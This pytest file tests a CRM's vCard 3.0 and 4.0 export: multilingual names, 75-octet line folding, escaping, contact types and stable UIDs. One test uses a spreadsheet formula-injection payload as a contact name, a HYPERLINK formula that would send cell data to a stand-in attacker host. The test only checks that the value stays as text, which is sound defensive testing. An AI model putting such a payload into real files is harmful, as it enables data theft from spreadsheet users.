"""vCard 3.0 and 4.0 exports read back with vobject: every contact with its type, names in
every script, lines folded at 75 octets."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from export_office import SCRIPTS, Office, office_fixture  # noqa: F401  (the fixture)

from crm.db.database import Database
from crm.io.export_lines import escape, fold
from crm.io.export_model import ExportRequest
from crm.io.export_run import export_to_file


def read_cards(path: Path) -> list[Any]:
    import vobject

    data = path.read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf")
    for line in data.split(b"\r\n"):
        assert len(line) <= 75, line
        line.decode("utf-8")  # no character split by folding
    return list(vobject.readComponents(data.decode("utf-8")))


def types(prop: Any) -> set[str]:
    values = prop.params.get("TYPE", [])
    return {part.lower() for value in values for part in value.split(",")}


@pytest.mark.parametrize("version", ["3.0", "4.0"])
def test_people_vcards(db: Database, office: Office, tmp_path: Path, version: str) -> None:
    target = tmp_path / "people.vcf"
    result = export_to_file(db, ExportRequest("people", "vcf", vcard_version=version), target)
    cards = read_cards(target)
    assert len(cards) == result.records == len(SCRIPTS) + 1
    by_family = {card.n.value.family: card for card in cards}
    for given, family, original, latin, language, _country in SCRIPTS:
        card = by_family[family]
        assert card.version.value == version
        assert card.n.value.given == given
        fns = [fn.value for fn in card.contents["fn"]]
        assert fns[0].endswith(f"{given} {family}")
        if original:
            assert card.x_liaison_name_original.value == original
        if latin:
            assert card.x_liaison_name_latin.value == latin
        if version == "4.0" and original:
            assert original in fns
            tagged = {fn.value: fn.params.get("LANGUAGE", [None])[0] for fn in card.contents["fn"]}
            assert tagged[original] == language
            if latin and latin != f"{given} {family}":
                assert tagged[latin] == f"{language}-Latn"
        if version == "3.0":
            assert len(fns) == 1
        assert card.org.value == ["Rīgas pilsētas dome", "Protocol, Department"]
        assert card.title.value == "Head of protocol; international relations, culture"
        tels = {(tel.value, frozenset(types(tel))) for tel in card.contents["tel"]}
        phone = "tel:+371-63-404-789" if version == "4.0" else "+371 63 404 789"
        voice = {"work", "voice", "pref"} if version == "3.0" else {"work", "voice"}
        assert (phone, frozenset(voice)) in tels
        mobile = {"work", "cell", "voice"} if version == "3.0" else {"work", "cell"}
        assert any(kinds == mobile for _value, kinds in tels)
        assert any("fax" in kinds for _value, kinds in tels)
        assert len(tels) == 4
        emails = {email.value: types(email) for email in card.contents["email"]}
        assert "home" in emails["private@example.net"]
        assert any("work" in kinds for kinds in emails.values())
        if version == "3.0":
            assert all("internet" in kinds for kinds in emails.values())
        address = card.adr.value
        assert (address.street, address.code, address.city) == (
            "Rožu laukums 5-6",
            "LV-3401",
            "Liepāja",
        )
        assert card.uid.value.startswith("urn:uuid:")
    berzina = by_family["Bērziņa"]
    assert berzina.n.value.prefix == "Dr."


def test_the_same_uid_every_time(db: Database, office: Office, tmp_path: Path) -> None:
    first, second = tmp_path / "a.vcf", tmp_path / "b.vcf"
    export_to_file(db, ExportRequest("people", "vcf"), first)
    export_to_file(db, ExportRequest("people", "vcf", vcard_version="4.0"), second)
    uids = [sorted(card.uid.value for card in read_cards(path)) for path in (first, second)]
    assert uids[0] == uids[1]
    assert len(set(uids[0])) == len(uids[0])


@pytest.mark.parametrize("version", ["3.0", "4.0"])
def test_organisation_vcards(db: Database, office: Office, tmp_path: Path, version: str) -> None:
    target = tmp_path / "organisations.vcf"
    export_to_file(db, ExportRequest("organisations", "vcf", vcard_version=version), target)
    [card] = read_cards(target)
    assert card.fn.value == "Rīgas pilsētas dome"
    assert card.org.value == ["Rīgas pilsētas dome"]
    assert card.x_liaison_name_latin.value == "Riga City Council"
    assert card.nickname.value == "RD"
    assert card.url.value == "https://www.riga.lv"
    assert card.email.value == "protokols@riga.lv"
    assert len(card.contents["tel"]) == 2
    if version == "4.0":
        assert card.kind.value == "org"
    else:
        assert card.x_abshowas.value == "COMPANY"


def test_formula_like_names_stay_text(db: Database, office: Office, tmp_path: Path) -> None:
    target = tmp_path / "people.vcf"
    export_to_file(db, ExportRequest("people", "vcf", ids=(office.formula_person_id,)), target)
    [card] = read_cards(target)
    assert card.n.value.family == '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert card.n.value.given == "+SUM(1,2)"


def test_escaping_and_folding() -> None:
    assert escape("a,b;c\\d\ne") == "a\\,b\\;c\\\\d\\ne"
    line = "NOTE:" + "ж" * 100
    folded = fold(line)
    assert folded.endswith("\r\n")
    parts = folded[:-2].split("\r\n")
    assert all(len(part.encode()) <= 75 for part in parts)
    assert all(part.startswith(" ") for part in parts[1:])
    assert "".join(part[1:] if i else part for i, part in enumerate(parts)) == line
    assert fold("SHORT:x") == "SHORT:x\r\n"
    emoji = fold("X:" + "😀" * 40)
    assert all(len(p.encode()) <= 75 for p in emoji[:-2].split("\r\n"))
